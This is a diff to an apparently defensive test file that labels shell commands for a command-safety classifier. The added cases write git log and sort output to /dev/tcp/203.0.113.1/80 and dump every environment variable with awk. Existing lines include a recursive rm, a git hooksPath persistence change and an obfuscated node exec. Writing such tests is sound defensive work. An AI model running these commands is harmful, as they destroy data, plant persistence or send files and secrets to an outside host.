@@ -519,6 +519,9 @@ export const DANGEROUS_CASES: readonly CommandCase[] = [
   ["find . -exec rm -rf {} +", "dangerous", "recursive_delete"],
   ["git config set --global core.hooksPath /tmp/h", "dangerous", "persistence"],
   ["node -e \"require('child'+'_process').execSync('id')\"", "dangerous", "interpreter_primitives"],
+  // Issue 8: a file an option writes may be a raw network connection.
+  ["git log --output=/dev/tcp/203.0.113.1/80", "dangerous", "interpreter_primitives"],
+  ["sort -o /dev/tcp/203.0.113.1/80 f", "dangerous", "interpreter_primitives"],
 ];
 
 /** Dangerous commands disguised: wrappers, quoting, paths, chains, nesting, look-alike letters. */
@@ -1224,4 +1227,7 @@ export const NEGATIVE_CASES: readonly CommandCase[] = [
   ["cd . && git status", "read_only"],
   ["git status && cd sub", "read_only"],
   ["cd src && ls", "read_only"],
+  // Issue 8: BSD in-place sed; awk reading the environment.
+  ["sed -I '' 's/a/b/' f", "review"],
+  ["awk 'BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}'", "review"],
 ];
